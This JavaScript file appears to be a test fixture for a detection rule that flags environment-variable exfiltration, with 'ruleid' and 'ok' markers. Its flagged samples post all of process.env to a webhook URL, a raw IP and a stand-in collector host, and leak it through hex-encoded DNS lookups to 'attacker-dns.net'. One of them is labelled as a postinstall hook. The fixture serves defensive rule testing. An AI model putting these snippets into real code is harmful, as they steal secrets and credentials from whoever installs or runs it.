const https = require('https');
const axios = require('axios');
const dns = require('dns');
const os = require('os');

// postinstall hook
// ruleid: js-env-exfiltration
fetch('https://webhook.site/5f2c1e0a', { method: 'POST', body: JSON.stringify(process.env) });

async function report() {
  const payload = { host: os.hostname(), env: { ...process.env } };
  // ruleid: js-env-exfiltration
  await axios.post('http://185.62.1.77/collect', payload);
}

function viaRequest() {
  const data = Buffer.from(JSON.stringify(process.env)).toString('base64');
  const req = https.request({ hostname: 'collector.example.xyz', method: 'POST', path: '/' });
  // ruleid: js-env-exfiltration
  req.write(data);
  req.end();
}

function viaDns() {
  for (const [k, v] of Object.entries(process.env)) {
    const label = Buffer.from(`${k}=${v}`).toString('hex').slice(0, 60);
    // ruleid: js-env-exfiltration
    dns.lookup(`${label}.x.attacker-dns.net`, () => {});
  }
}

async function safe() {
  // ok: js-env-exfiltration
  await axios.post('https://api.example.com/deploy', { version: process.env.APP_VERSION });
  // ok: js-env-exfiltration
  const port = process.env.PORT || 3000;
  // ok: js-env-exfiltration
  console.log(JSON.stringify(process.env, null, 2));
  // ok: js-env-exfiltration
  await fetch(`https://api.example.com/status?region=${process.env.AWS_REGION}`);
  return port;
}
